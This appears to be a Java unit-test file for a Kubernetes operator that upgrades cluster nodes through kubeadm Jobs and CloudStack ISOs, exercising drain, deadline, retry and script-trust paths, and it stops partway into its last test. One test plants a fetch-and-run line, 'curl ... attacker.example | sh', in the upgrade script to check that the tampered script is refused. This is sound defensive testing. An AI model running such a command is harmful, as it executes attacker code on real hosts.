package dev.cks.nodeops.upgrade;

import static dev.cks.nodeops.testing.FakeNodeWork.givesUp;
import static dev.cks.nodeops.testing.FakeNodeWork.heldBy;
import static dev.cks.nodeops.testing.FakeNodeWork.moving;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Instant;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.function.Predicate;

import java.util.stream.Stream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.api.parallel.ResourceAccessMode;
import org.junit.jupiter.api.parallel.ResourceLock;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import dev.cks.nodeops.cloudstack.CloudStackAccess;
import dev.cks.nodeops.cloudstack.CloudStackClient;
import dev.cks.nodeops.cloudstack.ManualTime;
import dev.cks.nodeops.cloudstack.simulator.CloudStackSimulator;
import dev.cks.nodeops.cloudstack.simulator.JobOutcome;
import dev.cks.nodeops.cloudstack.simulator.NodeRole;
import dev.cks.nodeops.cloudstack.simulator.Owner;
import dev.cks.nodeops.cloudstack.simulator.SimulatedCluster;
import dev.cks.nodeops.cloudstack.simulator.SimulatedVersion;
import dev.cks.nodeops.common.Conditions;
import dev.cks.nodeops.common.NodeAnnotations;
import dev.cks.nodeops.common.OperationMetrics;
import dev.cks.nodeops.common.Timestamps;
import dev.cks.nodeops.drain.PodSelection;
import dev.cks.nodeops.drain.Preflight;
import dev.cks.nodeops.operation.CloudStackWait;
import dev.cks.nodeops.operation.DrainTick;
import dev.cks.nodeops.operation.KillPoint;
import dev.cks.nodeops.operation.OperationPorts;
import dev.cks.nodeops.operation.OperationRecorder;
import dev.cks.nodeops.testing.Crash;
import dev.cks.nodeops.testing.FakeNodeWork;
import dev.cks.nodeops.testing.ReconcileLoop;
import dev.cks.nodeops.testing.RecordingEvents;
import dev.cks.nodeops.testing.RecordingStatusStore;
import dev.cks.nodeops.testing.SimulatedCloudStack;
import dev.cks.nodeops.testing.TestNodes;
import dev.cks.nodeops.testing.TestSettings;
import dev.cks.nodeops.upgrade.UpgradeNodeStatus.Action;
import dev.cks.nodeops.upgrade.UpgradeNodeStatus.IsoState;
import dev.cks.nodeops.upgrade.UpgradeNodeStatus.Phase;
import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.LabelSelector;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.api.model.batch.v1.JobStatusBuilder;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.javaoperatorsdk.operator.api.reconciler.DeleteControl;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;

/**
 * NodeUpgrade's lifecycle without a cluster: nodes in {@link FakeNodeWork}, Jobs in {@link FakeUpgradeJobs}
 * (the test plays the kubelet: a succeeded Job brings its node back Ready at the target), CloudStack the
 * project's simulator over HTTP with the real client, time moved by hand.
 */
class NodeUpgradeReconcilerTest {
    private static final String FROM = "v1.34.2";
    private static final String TARGET = "v1.35.4";
    private static final String CONTROL = "prod-control-a1";
    private static final String W1 = "prod-node-b1";
    private static final String W2 = "prod-node-b2";

    private final ManualTime clock = new ManualTime(Instant.parse("2026-11-30T12:00:00Z"));
    private final SimpleMeterRegistry registry = new SimpleMeterRegistry();
    private final SimulatedCloudStack cloudStack = new SimulatedCloudStack(clock, registry);
    private final CloudStackSimulator simulator = cloudStack.simulator;
    private final CloudStackClient client = cloudStack.client;
    private final FakeNodeWork nodes = new FakeNodeWork();
    private final FakeUpgradeJobs jobs = new FakeUpgradeJobs();
    private final RecordingEvents events = new RecordingEvents();
    private final RecordingStatusStore store = new RecordingStatusStore();
    private final TestSettings settings = new TestSettings();
    private static final String SCRIPT = "#!/bin/sh\nkubeadm upgrade \"$2\"\n";
    /** What the canary's script prints for an ISO of the target without etcd's image archive. */
    private static final String BAD_ISO_LOG = "iso-canary: ok kubeadm: k8s/kubeadm is v1.35.4\n"
            + "iso-canary: bad images: no archive for docker/etcd:3.6.5-0.tar\niso-canary: verdict failed\n";
    private final SimulatedVersion version = simulator.addSupportedVersion(TARGET.substring(1));
    private final SimulatedCluster cluster = simulator.addCluster("prod", Owner.of(simulator.defaultAccount()), "CloudManaged", version.id());
    /** Nodes whose Job the "kubelet" lets fail; every other Job succeeds and brings its node back at the target. */
    private final Set<String> failingJobs = new HashSet<>();
    private boolean jobsFinish = true;
    /** Whether the ISO canary's Jobs end by themselves (the usual), or run until a test lets them. */
    private boolean canariesFinish = true;
    private NodeUpgradeReconciler reconciler;
    private NodeUpgrade upgrade;

    NodeUpgradeReconcilerTest() {
        simulator.addClusterVm(cluster, CONTROL, NodeRole.CONTROL);
        nodes.add(TestNodes.node(CONTROL).controlPlane().version(FROM).created("2025-06-01T00:00:00Z").build());
        for (String worker : List.of(W1, W2)) {
            simulator.addClusterVm(cluster, worker, NodeRole.WORKER);
            nodes.add(TestNodes.node(worker).version(FROM).build());
        }
        jobs.configMaps.put("upgrade", Map.of("upgrade.sh", SCRIPT));
        settings.scriptSha256.add(ScriptTrust.sha256(SCRIPT));
        restartOperator();
    }

    private void restartOperator() {
        CloudStackAccess access = cloudStack.access(cluster.id());
        OperationRecorder recorder = new OperationRecorder(NodeUpgradeReconciler.KIND, events, new OperationMetrics(registry));
        // kubeadm upgrades the API server with its control-plane node: it reports what that node's kubelet does.
        reconciler = new NodeUpgradeReconciler(clock, settings, access, new OperationPorts(nodes, recorder, store), jobs,
                () -> List.of(nodes.get(CONTROL).getStatus().getNodeInfo().getKubeletVersion()));
    }

    @AfterEach
    void stopSimulator() {
        cloudStack.close();
    }

    private NodeUpgrade create(UpgradeExecutor.Type type, java.util.function.Consumer<NodeUpgradeSpec> tweak) {
        NodeUpgradeSpec spec = new NodeUpgradeSpec();
        spec.setTargetVersion(TARGET);
        UpgradeExecutor executor = type == UpgradeExecutor.Type.Script ? UpgradeBed.script("upgrade", "upgrade.sh") : new UpgradeExecutor();
        executor.setType(type);
        spec.setExecutor(executor);
        spec.getDrain().setRetries(0);
        tweak.accept(spec);
        upgrade = new NodeUpgrade();
        upgrade.setMetadata(new ObjectMetaBuilder().withName("to-1-35").withGeneration(1L).withUid("uid-7").withAnnotations(new java.util.HashMap<>()).build());
        upgrade.setSpec(spec);
        return upgrade;
    }

    /** An upgrade of one worker alone, after the control plane (the API server) was upgraded to the target. */
    private java.util.function.Consumer<NodeUpgradeSpec> workerOnly(String node) {
        nodes.get(CONTROL).getStatus().getNodeInfo().setKubeletVersion(TARGET);
        return spec -> spec.setSelector(new LabelSelector(null, Map.of("kubernetes.io/hostname", node)));
    }

    /** Reconciles as JOSDK would, moving the clock by each asked delay and playing the kubelet, until the predicate holds. */
    private NodeUpgradeStatus reconcileUntil(String what, Predicate<NodeUpgradeStatus> until) {
        return new ReconcileLoop<NodeUpgrade, NodeUpgradeStatus>(u -> reconciler.reconcile(u, null), clock, this::playKubelets, this::describe)
                .until(upgrade, what, until);
    }

    private void playKubelets() {
        // The ISO canary only reads the ISO: it ends whatever a test does with the upgrade Jobs, unless a test holds it.
        if (canariesFinish) {
            jobs.finishCanaries();
        }
        if (!jobsFinish) {
            return;
        }
        jobs.jobs.values().stream().filter(job -> UpgradeJob.outcome(job) instanceof UpgradeJob.Running && job.getMetadata().getLabels().containsKey(UpgradeJob.LABEL_NODE)).toList().forEach(job -> {
            String node = job.getMetadata().getLabels().get(UpgradeJob.LABEL_NODE);
            boolean succeeds = !failingJobs.contains(node);
            jobs.finish(node, succeeds);
            if (succeeds) {
                nodes.get(node).getStatus().getNodeInfo().setKubeletVersion(TARGET);
            }
        });
    }

    private NodeUpgradeStatus reconcileToEnd() {
        return reconcileUntil("finished", NodeUpgradeStatus::finished);
    }

    private String describe() {
        NodeUpgradeStatus status = upgrade.getStatus();
        return "phase " + status.getPhase() + ", message " + status.getMessage() + ", nodes "
                + status.getNodes().stream().map(n -> n.getName() + "=" + n.getPhase()).toList() + ", conditions " + status.getConditions();
    }

    private Condition condition(String type) {
        return Conditions.find(upgrade.getStatus().getConditions(), type).orElseThrow(() -> new AssertionError("no " + type + ": " + describe()));
    }

    private UpgradeNodeStatus node(String name) {
        return upgrade.getStatus().getNodes().stream().filter(n -> n.getName().equals(name)).findFirst().orElseThrow();
    }

    @Test
    void upgradesTheFirstControlPlaneNodeWithApplyThenEachWorkerOneAtATime() {
        create(UpgradeExecutor.Type.Script, spec -> { });

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(status.getNodes()).extracting(UpgradeNodeStatus::getName, UpgradeNodeStatus::getAction)
                .containsExactly(org.assertj.core.groups.Tuple.tuple(CONTROL, Action.Apply), org.assertj.core.groups.Tuple.tuple(W1, Action.Node),
                        org.assertj.core.groups.Tuple.tuple(W2, Action.Node));
        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL, W1, W2);
        assertThat(nodes.calls).containsSubsequence("cordon " + CONTROL, "drain " + CONTROL, "release " + CONTROL + " uncordon",
                "cordon " + W1, "drain " + W1, "release " + W1 + " uncordon", "cordon " + W2);
        assertThat(status.getNodes()).allSatisfy(n -> {
            assertThat(n.getPhase()).isEqualTo(Phase.Succeeded);
            assertThat(n.getVersion()).isEqualTo(TARGET);
            assertThat(n.getFromVersion()).isEqualTo(FROM);
        });
        List.of(CONTROL, W1, W2).forEach(n -> assertThat(nodes.ours(n)).isEmpty());
        assertThat(condition(Conditions.SUCCEEDED).getReason()).isEqualTo("AllNodesUpgraded");
        assertThat(condition(Conditions.ACCEPTED).getReason()).isEqualTo("Planned");
        assertThat(events.reasons()).containsSubsequence(OperationRecorder.ACCEPTED, OperationRecorder.CORDONED, OperationRecorder.DRAINING,
                OperationRecorder.NODE_DRAINED, "Upgrading", "WaitingReady", "NodeUpgraded", "Succeeded");
        assertThat(events.onNode(W1)).as("what was done to the node, on the node, naming the operation")
                .extracting(RecordingEvents.NodeEvent::reason).containsExactly(OperationRecorder.CORDONED, OperationRecorder.DRAINING,
                        OperationRecorder.NODE_DRAINED, "Upgrading", "WaitingReady", "NodeUpgraded", OperationRecorder.UNCORDONED);
        assertThat(events.onNode(W1)).allSatisfy(e -> assertThat(e.message()).startsWith("NodeUpgrade to-1-35: "));
        assertThat(events.onNode(W1).get(0).message()).endsWith("Cordoned node " + W1 + " to upgrade it to " + TARGET + ".");
        assertThat(registry.get("cks.operations").tag("kind", "NodeUpgrade").tag("outcome", "Succeeded").counter().count()).isEqualTo(1.0);
    }

    @Test
    void aBlockedDrainFailsThatNodeAndARetryResumesThereWithoutApplyingAgain() {
        nodes.thenDrain(W1, (state, now) -> givesUp(state, "Node " + W1 + " still has 1 pod: pdb shop/web: needs 2 healthy, has 2, 0 disruptions allowed"));
        create(UpgradeExecutor.Type.Script, spec -> { });

        NodeUpgradeStatus failed = reconcileToEnd();

        assertThat(failed.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(condition(Conditions.FAILED).getReason()).isEqualTo("NodeFailed");
        assertThat(condition(Conditions.FAILED).getMessage()).contains("failed at node " + W1).contains("pdb shop/web").contains("nodeops.cks.dev/retry");
        assertThat(node(W1).getPhase()).isEqualTo(Phase.Failed);
        assertThat(nodes.isCordoned(W1)).isFalse();
        assertThat(nodes.ours(W1)).isEmpty();

        upgrade.getMetadata().getAnnotations().put(NodeAnnotations.RETRY, "1");
        NodeUpgradeStatus retried = reconcileToEnd();

        assertThat(retried.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(node(CONTROL).getAction()).as("already at the target: no second apply").isEqualTo(Action.Skip);
        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL, W1, W2);
        assertThat(Conditions.find(retried.getConditions(), Conditions.FAILED)).isEmpty();
    }

    @Test
    void aScriptChangedInItsConfigMapIsRefusedBeforeAnyNodeIsCordonedAndTheJobRunsOnlyTheCheckedDigest() {
        create(UpgradeExecutor.Type.Script, spec -> { });
        reconcileUntil("the first Job", s -> jobs.hasJob(CONTROL));
        assertThat(jobs.jobOf(CONTROL).getMetadata().getAnnotations()).containsEntry(UpgradeJob.ANNOTATION_SCRIPT_SHA256, ScriptTrust.sha256(SCRIPT));

        jobs.configMaps.put("upgrade", Map.of("upgrade.sh", SCRIPT + "curl -s attacker.example | sh\n"));
        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(node(W1).getError()).contains("does not list").contains("Nothing was cordoned");
        assertThat(nodes.calls).doesNotContain("cordon " + W1);
        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL);
    }

    @Test
    void aJobTheApiServerWouldRefuseIsFoundByADryRunBeforeTheNodeIsCordoned() {
        jobs.refusal = Optional.of("pods \"upgrade-prod-control-a1-0a1b2c3d4e\" is forbidden: violates PodSecurity \"baseline:latest\": privileged");
        create(UpgradeExecutor.Type.Script, spec -> { });

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(node(CONTROL).getError()).contains("would be refused by the API server").contains("violates PodSecurity")
                .contains("Nothing was cordoned").contains("pod-security.kubernetes.io/enforce=privileged");
        assertThat(nodes.calls).noneMatch(c -> c.startsWith("cordon") || c.startsWith("lock"));
        assertThat(jobs.dryRuns).hasSize(1);
        assertThat(jobs.created).isEmpty();
    }

    @Test
    void aFailedJobFailsTheNodeWithTheJobsReasonAndLogAndUncordonsIt() {
        failingJobs.add(CONTROL);
        create(UpgradeExecutor.Type.Script, spec -> { });

        reconcileToEnd();

        assertThat(node(CONTROL).getError()).contains("BackoffLimitExceeded").contains("the control plane did not come up");
        assertThat(nodes.isCordoned(CONTROL)).isFalse();
        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL);
        assertThat(events.all()).filteredOn(e -> e.reason().equals("Failed")).singleElement().satisfies(e -> assertThat(e.type()).isEqualTo("Warning"));
        assertThat(events.onNode(CONTROL)).as("the node tells that its Job failed and that it was given back")
                .extracting(RecordingEvents.NodeEvent::reason).endsWith("Upgrading", "NodeFailed", OperationRecorder.UNCORDONED);
        assertThat(events.onNode(CONTROL)).filteredOn(e -> e.reason().equals("NodeFailed")).singleElement()
                .satisfies(e -> assertThat(e.type()).isEqualTo("Warning")).satisfies(e -> assertThat(e.message()).contains("BackoffLimitExceeded"));
    }

    @Test
    void theDeadlinePassingInEachPhaseFailsTheNodeAndGivesItBack() {
        for (int i = 0; i < 100; i++) {
            nodes.thenDrain(CONTROL, (state, now) -> moving(state, now.plusSeconds(5), 3));
        }
        create(UpgradeExecutor.Type.Script, spec -> spec.setTimeoutSeconds(60));
        reconcileToEnd();
        assertThat(condition(Conditions.FAILED).getMessage()).contains("deadline").contains("was Draining");
        assertThat(nodes.isCordoned(CONTROL)).isFalse();
    }

    @Test
    void theDeadlinePassingWhileWaitingForReadyLetsTheNodeFinishItsWaitThenStops() {
        create(UpgradeExecutor.Type.Script, spec -> {
            spec.setTimeoutSeconds(120);
            spec.setReadyTimeoutSeconds(600);
        });
        reconcileUntil("the control plane's Job", s -> jobs.hasJob(CONTROL));
        jobsFinish = false;
        jobs.finish(CONTROL, true);
        // the kubelet never comes back at the target
        NodeUpgradeStatus status = reconcileToEnd();
        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(condition(Conditions.FAILED).getMessage()).contains(CONTROL).doesNotContain("deadline");
        assertThat(java.time.Duration.between(Instant.parse("2026-11-30T12:00:00Z"), clock.instant())).as("waited for Ready past the deadline")
                .isGreaterThanOrEqualTo(java.time.Duration.ofSeconds(600));
        assertThat(nodes.calls).doesNotContain("cordon " + W1);
    }

    @Test
    void theDeadlinePassingWhileTheJobRunsWaitsForItNeverUncordonsUnderItAndStartsNoOtherNode() {
        create(UpgradeExecutor.Type.Script, spec -> spec.setTimeoutSeconds(120));
        reconcileUntil("the control plane's Job", s -> jobs.hasJob(CONTROL));
        jobsFinish = false;

        reconcileUntil("well past the deadline", s -> clock.instant().isAfter(Instant.parse("2026-11-30T12:10:00Z")));
        assertThat(node(CONTROL).getPhase()).isEqualTo(Phase.Upgrading);
        assertThat(nodes.isCordoned(CONTROL)).as("never uncordoned under a running upgrade Job").isTrue();
        assertThat(nodes.calls).doesNotContain("release " + CONTROL + " uncordon");

        jobs.finish(CONTROL, true);
        nodes.get(CONTROL).getStatus().getNodeInfo().setKubeletVersion(TARGET);
        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(node(CONTROL).getPhase()).as("its upgrade finished").isEqualTo(Phase.Succeeded);
        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(condition(Conditions.FAILED).getMessage()).contains("deadline").contains("passed before node " + W1 + " could start");
        assertThat(nodes.calls).doesNotContain("cordon " + W1);
        assertThat(jobs.created).hasSize(1);
        List.of(CONTROL, W1, W2).forEach(n -> assertThat(nodes.ours(n)).isEmpty());
    }

    @Test
    void anUpgradePodThatDoesNotRunIsNamedInTheWaitingConditionUntilItRuns() {
        jobs.podsRun = false;
        jobsFinish = false;
        create(UpgradeExecutor.Type.Script, spec -> { });
        reconcileUntil("the control plane's Job", s -> jobs.hasJob(CONTROL));
        Job job = jobs.jobOf(CONTROL);
        String jobName = job.getMetadata().getName();
        Instant made = clock.instant();

        reconcileUntil("a minute on", s -> clock.instant().isAfter(made.plusSeconds(60)));
        assertThat(Conditions.find(upgrade.getStatus().getConditions(), Conditions.WAITING)).as("a pod not made yet is not a wait within the grace")
                .isEmpty();
        assertThat(upgrade.getStatus().getMessage()).contains("Job " + jobName).contains("it has made no pod yet");

        String pod = jobName + "-x7k2p";
        jobs.pods.put(jobName, List.of(new PodBuilder().withNewMetadata().withName(pod)
                .withCreationTimestamp(Timestamps.format(made)).endMetadata().withNewStatus().withPhase("Pending").addNewContainerStatus()
                .withName("upgrade").withNewState().withNewWaiting().withReason("ImagePullBackOff").withMessage("Back-off pulling image").endWaiting()
                .endState().endContainerStatus().endStatus().build()));
        NodeUpgradeStatus waiting = reconcileUntil("the pod named", s -> Conditions.find(s.getConditions(), Conditions.WAITING).isPresent());
        assertThat(java.time.Duration.between(made, clock.instant())).as("looked at again within a recheck").isLessThanOrEqualTo(
                java.time.Duration.ofSeconds(60).plus(UpgradeJobStep.POD_RECHECK).plus(UpgradeJobStep.POD_RECHECK));
        assertThat(condition(Conditions.WAITING).getReason()).isEqualTo(UpgradeJobStep.UPGRADE_POD_NOT_RUNNING);
        assertThat(condition(Conditions.WAITING).getMessage()).contains(settings.namespace() + "/" + jobName).contains(CONTROL)
                .contains(pod + " cannot start its container: ImagePullBackOff (Back-off pulling image)").contains("1800 s (jobTimeoutSeconds)");
        assertThat(waiting.getPhase()).as("a wait with a node held").isEqualTo(NodeUpgradeStatus.Phase.Running);
        assertThat(node(CONTROL).getPhase()).isEqualTo(Phase.Upgrading);
        assertThat(nodes.isCordoned(CONTROL)).isTrue();

        Instant named = clock.instant();
        reconcileUntil("a minute of further looks", s -> clock.instant().isAfter(named.plusSeconds(60)));
        assertThat(events.all()).as("one event for the wait, not one per look").filteredOn(e -> e.message().contains(pod)).hasSize(1);

        job.setStatus(new JobStatusBuilder().withActive(1).withReady(1).build());
        reconcileUntil("the wait over", s -> Conditions.find(s.getConditions(), Conditions.WAITING).isEmpty());
        assertThat(upgrade.getStatus().getMessage()).isEqualTo("Upgrading node " + CONTROL + " (Apply, Job " + jobName + ").");
        jobsFinish = true;
        assertThat(reconcileToEnd().getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
    }

    @Test
    void noSecondUpgradeJobStartsOnANodeWhereAnEarlierOneStillRuns() {
        // A Job of an earlier run (a deleted NodeUpgrade whose Job was left to finish) still runs on W1.
        jobs.create(UpgradeJob.build(new UpgradeJob.Request(settings.namespace(), "earlier", "uid-earlier", W1, null, Action.Node, TARGET,
                UpgradeJob.Runtime.of(settings.upgrade()), 1800, "upgrade", "upgrade.sh", List.of(TARGET, "node"), ScriptTrust.sha256(SCRIPT))));
        String earlier = jobs.jobOf(W1).getMetadata().getName();
        jobsFinish = false;
        create(UpgradeExecutor.Type.Script, spec -> { });
        reconcileUntil("the control plane's Job", s -> jobs.created.size() == 2);
        jobs.finish(CONTROL, true);
        nodes.get(CONTROL).getStatus().getNodeInfo().setKubeletVersion(TARGET);

        reconcileUntil("waiting for the earlier Job", s -> Conditions.find(s.getConditions(), Conditions.WAITING)
                .filter(c -> c.getReason().equals(UpgradeJobStep.EARLIER_JOB_RUNNING)).isPresent());
        assertThat(condition(Conditions.WAITING).getMessage()).contains(earlier).contains("node " + W1);
        assertThat(nodes.calls).as("not even cordoned while the other upgrade runs").doesNotContain("cordon " + W1);

        jobs.finish(W1, true);
        jobsFinish = true;
        NodeUpgradeStatus status = reconcileToEnd();
        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(jobs.created).filteredOn(name -> jobs.jobs.get(name).getMetadata().getLabels().get(UpgradeJob.LABEL_NODE).equals(W1)).hasSize(2);
    }

    @Test
    void aBlockedDrainShowsTheBudgetAndItsNumbersAndWarnsOnce() {
        for (int i = 0; i < 15; i++) {
            nodes.thenDrain(CONTROL, (state, now) -> heldBy(state, now.plusSeconds(1), "kube-system/coredns", "needs 1 healthy, has 1, 0 disruptions allowed", 1));
        }
        create(UpgradeExecutor.Type.Script, spec -> { });

        NodeUpgradeStatus blocked = reconcileUntil("blocked", s -> s.getMessage() != null && s.getMessage().contains("blocked for"));

        assertThat(condition(Conditions.PROGRESSING).getMessage()).contains("pdb kube-system/coredns: needs 1 healthy, has 1, 0 disruptions allowed");
        assertThat(blocked.getMessage()).startsWith("Draining node " + CONTROL);
        assertThat(drainBlocked(CONTROL)).isEqualTo(1.0);
        reconcileToEnd();
        assertThat(events.all()).filteredOn(e -> e.reason().equals(OperationRecorder.DRAIN_BLOCKED)).hasSize(1);
        assertThat(drainBlocked(CONTROL)).as("no series once the node is not draining").isEqualTo(0.0);
        assertThat(DrainTick.BLOCKED_AFTER).isPositive();
    }

    @Test
    void waitsForANodeLockedByAnotherOperationAndResumesWhenItIsReleased() {
        nodes.get(CONTROL).getMetadata().getAnnotations().put(NodeAnnotations.LOCK, "ScaleDown/other");
        create(UpgradeExecutor.Type.Script, spec -> { });

        reconcileUntil("waiting", s -> s.getPhase() == NodeUpgradeStatus.Phase.Waiting);
        assertThat(condition(Conditions.WAITING).getReason()).isEqualTo("NodeLocked");
        assertThat(condition(Conditions.WAITING).getMessage()).contains("locked by ScaleDown/other");
        assertThat(nodes.isCordoned(CONTROL)).isFalse();

        nodes.get(CONTROL).getMetadata().getAnnotations().remove(NodeAnnotations.LOCK);
        NodeUpgradeStatus done = reconcileToEnd();
        assertThat(done.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(Conditions.find(done.getConditions(), Conditions.WAITING)).as("removed on resume").isEmpty();
    }

    @Test
    void preflightFailRefusesWithAcceptedFalseBeforeAnyCordon() {
        var numbers = new dev.cks.nodeops.drain.BlockedByReport.BudgetNumbers("shop", "web", 2, 2, 0, 2);
        nodes.prediction = new dev.cks.nodeops.drain.PreflightPrediction.Report(Map.of(),
                List.of(new dev.cks.nodeops.drain.PreflightPrediction.BudgetPressure(numbers, Map.of(W1, List.of("shop/web-1")), true, null)));
        create(UpgradeExecutor.Type.Script, spec -> spec.setPreflight(Preflight.Fail));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(condition(Conditions.ACCEPTED).getStatus()).isEqualTo("False");
        assertThat(condition(Conditions.ACCEPTED).getReason()).isEqualTo(OperationRecorder.REFUSED);
        assertThat(condition(Conditions.ACCEPTED).getMessage()).contains("pdb shop/web").contains("Nothing was cordoned");
        assertThat(nodes.calls).containsExactly("preflight " + CONTROL + "," + W1 + "," + W2);
    }

    @Test
    void anInvalidSpecIsRefusedAndCounted() {
        create(UpgradeExecutor.Type.Script, spec -> spec.setExecutor(null));

        reconcileToEnd();

        assertThat(condition(Conditions.ACCEPTED).getReason()).isEqualTo(OperationRecorder.INVALID_SPEC);
        assertThat(registry.get("cks.operations").tag("kind", "NodeUpgrade").tag("outcome", "Failed").counter().count()).isEqualTo(1.0);
        assertThat(nodes.calls).isEmpty();
    }

    @Test
    void anApiErrorOnCordonIsRetriedAndALastingRefusalFailsTheNodeUntouched() {
        nodes.failCordon(CONTROL, FakeNodeWork.apiDown());
        create(UpgradeExecutor.Type.Script, spec -> { });
        reconcileUntil("planned", s -> s.getPhase() == NodeUpgradeStatus.Phase.Running);
        assertThatThrownBy(() -> reconciler.reconcile(upgrade, null)).hasMessageContaining("API server is restarting");
        reconciler.updateErrorStatus(upgrade, null, FakeNodeWork.apiDown());
        assertThat(condition(Conditions.WAITING).getReason()).isEqualTo(OperationRecorder.RETRYING);

        nodes.failCordon(CONTROL, null);
        nodes.refuseCordon(CONTROL, "Node " + CONTROL + " could not be cordoned: nodes is forbidden");
        NodeUpgradeStatus status = reconcileToEnd();
        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(node(CONTROL).getError()).contains("forbidden");
        assertThat(nodes.ours(CONTROL)).isEmpty();
    }

    @Test
    void cloudStackIsoAttachesTheIsoOnceRunsTheNodeScriptAndDetachesIt() {
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(simulator.calls("attachIso")).as("the canary's, then the upgrade's").hasSize(2);
        assertThat(simulator.calls("detachIso")).as("the canary's, then the upgrade's").hasSize(2);
        assertThat(simulator.vm(cluster.vmIds().get(1)).isoId()).isNull();
        assertThat(node(W1).getIsoState()).isEqualTo(IsoState.Detached);
        assertThat(jobs.scripts).containsKey(CloudStackIsoExecutor.SCRIPT_CONFIGMAP + "/" + CloudStackIsoExecutor.SCRIPT_KEY)
                .containsKey(CloudStackIsoExecutor.SCRIPT_CONFIGMAP + "/" + CloudStackIsoExecutor.CANARY_KEY);
        assertThat(jobs.jobOf(W1).getSpec().getTemplate().getSpec().getContainers().get(0).getCommand()).contains("1.35.4", "false", "false");
        assertThat(events.reasons()).containsSubsequence("IsoAttached", "IsoDetached", IsoCanary.ISO_PASSED, OperationRecorder.CORDONED, "IsoAttached",
                "Upgrading", "IsoDetached", "NodeUpgraded");
        assertThat(status.getIsoCanary()).satisfies(canary -> {
            assertThat(canary.getNode()).isEqualTo(W1);
            assertThat(canary.getVerdict()).isEqualTo(IsoCanaryStatus.Verdict.Passed);
            assertThat(canary.getChecked()).contains("kubeadm: k8s/kubeadm is v1.35.4");
            assertThat(canary.getIsoState()).isEqualTo(IsoState.Detached);
        });
        assertThat(condition(Conditions.ISO_VERIFIED).getStatus()).isEqualTo("True");
        assertThat(jobs.canaryJobs()).singleElement().satisfies(job -> assertThat(job.getSpec().getTemplate().getSpec().getContainers().get(0)
                .getCommand()).endsWith("1.35.4").doesNotContain("--without"));
        assertThat(status.getConditions()).as("the cluster was made at the target, so CloudStack's record matches")
                .filteredOn(c -> c.getType().equals("CloudStackRecordCurrent")).singleElement()
                .satisfies(c -> assertThat(c.getStatus()).isEqualTo("True"));
    }

    /** The end of the node script's log on a first control-plane node, as upgrade-kubernetes.sh prints it. */
    private static String scriptLogEnding(String... addonLines) {
        return "12:03:10 kubectl apply -f network.yaml (attempt 1 of 12)\nconfigmap/calico-config configured\n"
                + String.join("\n", addonLines) + "\n12:03:14 node upgraded to v1.35.4\n";
    }

    /**
     * Shape: 1 control-plane node + 2 workers, CloudStackIso. Other actor: the node script on the control-plane node,
     * which applied the ISO's network.yaml and headlamp.yaml. Only that node's Job log is read; the workers carry no addons.
     */
    @Test
    void cloudStackIsoRecordsTheAddonsTheFirstControlNodesScriptApplied() {
        jobs.log = scriptLogEnding("cks-addon network.yaml applied", "cks-addon headlamp.yaml applied");
        create(UpgradeExecutor.Type.CloudStackIso, spec -> { });

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(node(CONTROL).getAddons()).isEqualTo("network.yaml applied; headlamp.yaml applied");
        assertThat(node(W1).getAddons()).isNull();
        assertThat(node(W2).getAddons()).isNull();
        assertThat(jobs.logsRead).as("upgrade Jobs' logs read (the ISO canary's is read for its verdict)")
                .filteredOn(job -> !job.startsWith("iso-canary-")).containsExactly(node(CONTROL).getJobName());
        Condition addons = condition(Conditions.ADDONS_APPLIED);
        assertThat(addons.getStatus()).isEqualTo("True");
        assertThat(addons.getReason()).isEqualTo("AddonsApplied");
        assertThat(events.onNode(CONTROL)).anySatisfy(event -> assertThat(event.reason()).isEqualTo("AddonsApplied"));
    }

    /**
     * Shape: 1 control-plane node + 2 workers, CloudStackIso. Other actor: the node script, whose `kubectl apply` of the
     * ISO's network.yaml failed after kubeadm had upgraded the control plane. The node is upgraded, so it is not failed:
     * the upgrade goes on and succeeds, AddonsApplied is False and a Warning names the manifest and how to apply it.
     */
    @Test
    void aFailedAddonApplyLeavesTheUpgradedNodeSucceededAndSaysSoInAConditionAndAWarning() {
